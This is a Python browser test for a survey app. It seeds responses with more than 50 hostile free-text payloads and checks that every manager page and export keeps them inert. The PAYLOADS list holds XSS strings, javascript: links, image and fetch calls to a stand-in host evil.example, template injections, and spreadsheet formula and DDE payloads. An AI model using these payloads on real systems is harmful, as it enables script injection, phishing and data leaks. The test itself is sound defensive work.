"""Hostile free text on every manager page: more than 50 script, HTML, markdown, template, formula and
unicode payloads in the answers stay literal text. No dialog opens, nothing is requested from any
host but the app, and no element the texts could have become exists; the payloads are shown (the
group is large enough for free text), so that the test sees what it checks."""

from __future__ import annotations

import csv
import io
import urllib.error
import urllib.request
from datetime import date, timedelta
from urllib.parse import urlparse

import pytest
from openpyxl import load_workbook

from tests.conftest import SURVEYS
from tests.e2e.test_manager_pages_browser import go, log_in, manager_database
from tests.store.manager.conftest import add, answers_for
from tests.support.driver import screenshot, settle
from tests.support.server import TABLET, Server
from trp_core.files.surveys import load_survey
from trp_core.method.figures import Period, period_start
from trp_core.presentation.i18n import t
from trp_core.services.calibrate import revised_version

pytestmark = pytest.mark.browser

EVIL = "evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '<iframe src="javascript:alert(5)"></iframe>',
    "<iframe src=http://evil.example/frame></iframe>",
    '<a href="javascript:alert(6)">click</a>',
    "[click](javascript:alert(7))",
    "[click](http://evil.example/phish)",
    "![x](http://evil.example/x.png)",
    "![y](//evil.example/y.png)",
    '<img src="http://evil.example/z.png">',
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<style>@import url(http://evil.example/i.css);</style>",
    '<div style="background:url(http://evil.example/bg.png)">bg</div>',
    "<object data=http://evil.example/o.swf></object>",
    "<embed src=http://evil.example/e.swf>",
    "<video src=x onerror=alert(8)></video>",
    "<audio src=x onerror=alert(9)>",
    "<body onload=alert(10)>",
    "<details open ontoggle=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<marquee onstart=alert(13)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
    '"><script>alert(15)</script>',
    "'><img src=x onerror=alert(16)>",
    "</textarea><script>alert(17)</script>",
    "&lt;script&gt;alert(18)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(19)&#62;",
    "%3Cscript%3Ealert(20)%3C/script%3E",
    "{{7*7}} and {{constructor.constructor('alert(21)')()}}",
    "${7*7} <%= 7*7 %> #{7*7}",
    '=HYPERLINK("http://evil.example/?leak","click")',
    '=IMAGE("http://evil.example/x.png")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    ":red[red text] and :blue-background[blue]",
    ":material/warning: :material/bolt: :smile:",
    "$\\href{http://evil.example}{click}$",
    "$$\\href{javascript:alert(22)}{x}$$",
    "\\(x\\) $x^2$ **bold** _italic_ ~~strike~~",
    "<b>bold</b> <i>it</i> <u>underlined</u>",
    "# Heading one",
    "> a quote",
    "```js alert(23) ```",
    "| a | b | |---|---| | 1 | 2 |",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    "<form action=http://evil.example/><button>go</button></form>",
    "javascript:alert(24)",
    "data:text/html,<script>alert(25)</script>",
    "\u202egnp.exe",
    "a\u200bl\u200be\u200br\u200bt(26)",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(27)",
    "<scr<script>ipt>alert(28)</scr</script>ipt>",
    "<img src=x:alert(29) onerror=eval(src)>",
    "http://evil.example/autolink and www.evil.example",
    "<http://evil.example/angle>",
    "[ref][1] [1]: http://evil.example/ref",
    "<!-- a comment --> after the comment",
    "\"><svg/onload=fetch('//evil.example')>",
    '<img srcset="http://evil.example/s.png 1x">',
    "<picture><source srcset=http://evil.example/p.png></picture>",
    "<script src=http://evil.example/x.js></script>",
    "@import 'http://evil.example/css';",
    "emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f44d\U0001f3fd",
]
# The event tags visitors can carry come from the operators' events file (slugs only); these are
# written straight into the database, as a damaged or hand-edited one could hold them.
HOSTILE_EVENTS = ["<img src=x onerror=alert(30)>", "[e](http://evil.example/e)", ":red[event]"]
PER_QUADRANT = 12  # responses per answer set: every quadrant's group shows its free text


def normal(text: str) -> str:
    """As the dashboard shows a text: whitespace collapsed."""
    return " ".join(text.split())


@pytest.fixture(scope="module")
def hostile_server(chromium, tmp_path_factory) -> Server:
    """A server with an account, demo responses and responses whose free text is hostile."""
    folder = tmp_path_factory.mktemp("xss-manager")
    engine, store, survey = manager_database(folder, 300, seed_value=11, pool=60)
    # The last quarter: free text is shown per quarter once a release has fixed it (PRIVACY.md, rules
    # 0 and 5), and today's release has fixed the last one.
    past = period_start(date.today(), Period.QUARTER) - timedelta(days=1)
    outcomes = ["kandidat", "held", "vampir", "schatten"]
    n = 0
    for outcome in outcomes:
        base = answers_for(survey.id, outcome)
        for _ in range(PER_QUADRANT):
            given = {**base, "what_would_help": PAYLOADS[n % len(PAYLOADS)]}
            given["remarks"] = PAYLOADS[(n + 17) % len(PAYLOADS)]
            n += 1
            # Every other one: at least k of each tag, so that each is offered as a filter of its own.
            event = HOSTILE_EVENTS[n % len(HOSTILE_EVENTS)] if n % 2 == 0 else None
            add(
                store,
                survey,
                given,
                lang="en" if event or n % 3 else "de",  # a tag's responses one stream: at least k
                event=event,
                day=past - timedelta(days=n % 5),
            )
    for payload in PAYLOADS[n:]:  # any payload left over
        add(
            store,
            survey,
            {**answers_for(survey.id, "held"), "what_would_help": payload},
            lang="en",
            day=past,
        )
    engine.dispose()
    srv = Server(folder)
    yield srv
    srv.stop()


# Elements and attributes a payload could have become inside the app's main area.
INJECTED = """() => {
  const main = document.querySelector('[data-testid=stMain]');
  const found = [];
  for (const el of main.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) found.push(`${el.tagName} ${a.name}`);
    }
    const tag = el.tagName.toLowerCase();
    // The app's own two elements that tell the browser the page language (shared._LANG_HTML),
    // recognised by their exact text: nothing else may carry a script or a style.
    if ((tag === 'script' && el.dataset.trp === 'lang' && /^document\\.documentElement\\.lang = "(de|en)";$/.test(el.textContent))
        || (tag === 'style' && el.textContent === '[data-testid=stElementContainer]:has(script[data-trp=lang]) { display: none; }')) {
      continue;
    }
    if (tag === 'form' && el.hasAttribute('action')) found.push('form with an action');
    if (['script', 'iframe', 'object', 'embed', 'meta', 'base', 'link', 'style', 'marquee',
         'video', 'audio', 'math', 'picture', 'source'].includes(tag)) {
      found.push(tag);
    }
    if (el.closest('[data-testid=stText]') && el.matches('[data-testid=stText] * *')) {
      found.push(`${tag} inside a free text`);  // st.text holds the text itself, nothing else
    }
    const url = el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('srcset') || '';
    if (/evil\\.example|^\\s*javascript:|^x$/i.test(url)) found.push(`${tag} ${url}`);
    if (/evil\\.example/.test(el.getAttribute('style') || '')) found.push(`${tag} style`);
  }
  return found;
}"""


def choose(page, label: str, option: str) -> None:
    """Pick an option of the select box with this label."""
    box = page.get_by_role("combobox", name=label).first
    box.focus()
    box.press("ArrowDown")
    page.get_by_role("option", name=option, exact=True).first.click()
    settle(page, 60_000)


def test_hostile_free_text_on_every_manager_page(browser, hostile_server, artifacts):
    assert len(set(PAYLOADS)) >= 50
    context = browser.new_context(viewport=TABLET, locale="en", accept_downloads=True)
    page = context.new_page()
    dialogs: list[str] = []
    hosts: set[str] = set()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    context.on("request", lambda r: hosts.add(urlparse(r.url).hostname or r.url[:40]))
    context.on("page", lambda p: dialogs.append(f"a new page opened: {p.url}"))
    checked: list[str] = []

    def check(where: str) -> None:
        page.wait_for_timeout(500)  # time for a script or an image request to fire
        assert page.evaluate(INJECTED) == [], where
        assert dialogs == [], where
        assert hosts <= {"127.0.0.1"}, (where, hosts)
        assert page.locator('[data-testid="stException"]').count() == 0, where
        checked.append(where)

    log_in(page, hostile_server.url)
    page.locator('[data-testid="stVegaLiteChart"]').nth(5).wait_for(timeout=60_000)
    check("dashboard")

    # Free text, per version and quarter: every payload is there, as text.
    page.get_by_text(t("mgr_free_text_show", "en")).click()
    settle(page, 60_000)
    for expander in page.locator('[data-testid="stExpander"] summary').all():
        expander.click()
    settle(page)
    shown = normal(page.locator('[data-testid="stMain"]').inner_text())
    missing = [p for p in PAYLOADS if normal(p) not in shown]
    assert missing == [], missing
    check("dashboard, free text")
    screenshot(page, artifacts / "xss-manager-dashboard-free-text.png")
    survey = load_survey(SURVEYS / "trp-standard.yaml")

    # Filters: the events (hostile tags among them), the language, the week.
    for event in HOSTILE_EVENTS:
        choose(page, t("mgr_event", "en"), event)
        check(f"dashboard, event {event}")
    screenshot(page, artifacts / "xss-manager-dashboard-event.png")
    choose(page, t("mgr_event", "en"), t("mgr_all_events", "en"))
    choose(page, t("mgr_resp_lang", "en"), "English")
    choose(page, t("mgr_period", "en"), t("mgr_week", "en"))
    check("dashboard, English, by week")

    # Calibration: another threshold, the results, the survey file to download.
    go(page, "nav_calibration")
    page.get_by_role("heading", name=t("mgr_calibration_title", "en")).wait_for(timeout=60_000)
    field = page.locator('[data-testid="stNumberInput"] input').first
    field.fill("55")
    page.get_by_role("button", name=t("mgr_cal_apply", "en")).click()
    settle(page, 60_000)
    check("calibration")
    with page.expect_download() as download:
        name = t("mgr_cal_download", "en", version=revised_version(survey.version))
        page.get_by_role("button", name=name).click()
    assert download.value.path().read_text(encoding="utf-8").startswith("#")
    try:  # the survey file is served to this manager's browser only, not to anyone with its address
        urllib.request.urlopen(download.value.url, timeout=10)
        raise AssertionError("the calibrated survey file was served without the session cookie")
    except urllib.error.HTTPError as refused:
        assert refused.code == 404
    screenshot(page, artifacts / "xss-manager-calibration.png")
    check("calibration, download")

    # Exports: the rows of one version (never free text in a row), a table and a chart.
    go(page, "nav_exports")
    page.get_by_role("heading", name=t("mgr_exports_title", "en")).wait_for(timeout=60_000)
    check("exports")
    choose(page, t("mgr_version", "en"), survey.version)
    with page.expect_download() as download:
        page.get_by_role("button", name=t("mgr_exp_csv", "en"), exact=True).click()
    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    assert len(rows) > 300 and not cells & {normal(p) for p in PAYLOADS} and not cells & set(PAYLOADS)
    assert not cells & set(HOSTILE_EVENTS)  # no tag in a row (finding 1 of issue 13)
    with page.expect_download() as download:
        page.get_by_role("button", name=t("mgr_exp_xlsx", "en"), exact=True).click()
    sheet = load_workbook(io.BytesIO(download.value.path().read_bytes())).active
    assert not {c.value for row in sheet.iter_rows() for c in row} & set(PAYLOADS)
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    heat = page.get_by_role("button", name=t("mgr_table_heat", "en"), exact=True)
    for button in (page.get_by_role("button", name=t("mgr_table_quadrants", "en"), exact=True), heat.nth(1)):
        with page.expect_download() as download:
            button.first.click()
        assert download.value.path().stat().st_size > 0
    screenshot(page, artifacts / "xss-manager-exports.png")
    check("exports, downloads")
    print("checked:", "; ".join(checked))
    context.close()
